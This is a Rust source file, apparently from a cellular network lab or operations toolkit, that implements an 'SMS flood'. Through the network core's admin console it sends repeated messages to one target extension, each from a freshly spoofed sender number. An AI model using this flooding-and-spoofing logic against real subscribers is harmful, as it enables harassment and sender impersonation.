use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use calypso_console::{Console, Reply, ResponseClassifier, SmsTarget, VtyClassifier, VtyCommand};
use calypso_core::{Extension, Imsi};

use crate::OpsError;
use crate::pacing::Pacer;
use crate::sentinel::{assign_extension_to_imsi, ensure_sentinel};
use crate::spoof::SpoofNumberGenerator;

/// What to send, to whom, and how often
#[derive(Debug, Clone, Copy)]
pub struct FloodJob<'a> {
    pub target: &'a Extension,
    pub repeats: u32,
    pub text: &'a str,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FloodReport {
    /// Spoofed sender of every accepted message, in order
    pub senders: Vec<Extension>,
    pub interrupted: bool,
}

/// Repeated SMS to one target, each from a freshly spoofed sender number.
///
/// The sentinel subscriber is re-bound to every generated number before the
/// send. The first rejected command ends the run with an error.
pub struct SmsFlood {
    classifier: Box<dyn ResponseClassifier>,
    sentinel: Imsi,
    flood_delay: Duration,
}

impl SmsFlood {
    pub fn new(sentinel: Imsi, flood_delay: Duration) -> Self {
        Self {
            classifier: Box::new(VtyClassifier),
            sentinel,
            flood_delay,
        }
    }

    pub fn with_classifier(mut self, classifier: Box<dyn ResponseClassifier>) -> Self {
        self.classifier = classifier;
        self
    }

    pub fn run(
        &self,
        console: &mut dyn Console,
        job: FloodJob<'_>,
        generator: &mut SpoofNumberGenerator,
        pacer: &dyn Pacer,
        stop: &AtomicBool,
        on_send: &mut dyn FnMut(&Extension),
    ) -> Result<FloodReport, OpsError> {
        let FloodJob { target, repeats, text } = job;
        let lookup = VtyCommand::ShowSubscriberByExtension(target);
        let response = console.run(&lookup)?;
        match self.classifier.classify(lookup.kind(), &response) {
            Reply::Ok => {}
            Reply::NotFound => return Err(OpsError::NotFound(format!("extension {}", target))),
            Reply::Error(line) => return Err(OpsError::command(&lookup.to_line(), &line)),
        }
        ensure_sentinel(console, self.classifier.as_ref(), &self.sentinel)?;

        let mut report = FloodReport::default();
        for iteration in 1..=repeats {
            if stop.load(Ordering::Relaxed) {
                tracing::info!("flood interrupted after {} of {} messages", report.senders.len(), repeats);
                report.interrupted = true;
                break;
            }

            let spoof = generator.next_number()?;
            on_send(&spoof);
            assign_extension_to_imsi(console, self.classifier.as_ref(), &self.sentinel, &spoof).map_err(|e| in_iteration(e, iteration))?;

            let cmd = VtyCommand::SendSms {
                target: SmsTarget::Extension(target),
                sender: &spoof,
                text,
            };
            let response = console.run(&cmd)?;
            if let Reply::Error(line) = self.classifier.classify(cmd.kind(), &response) {
                tracing::warn!("flood stopped at message {} of {}: {}", iteration, repeats, line);
                return Err(OpsError::Command {
                    iteration: Some(iteration),
                    command: cmd.to_line(),
                    response: line,
                });
            }
            tracing::debug!("message {} of {} sent from {}", iteration, repeats, spoof);
            report.senders.push(spoof);

            if iteration < repeats {
                pacer.pause(self.flood_delay);
            }
        }
        Ok(report)
    }
}

fn in_iteration(err: OpsError, iteration: u32) -> OpsError {
    match err {
        OpsError::Command { command, response, .. } => OpsError::Command {
            iteration: Some(iteration),
            command,
            response,
        },
        other => other,
    }
}
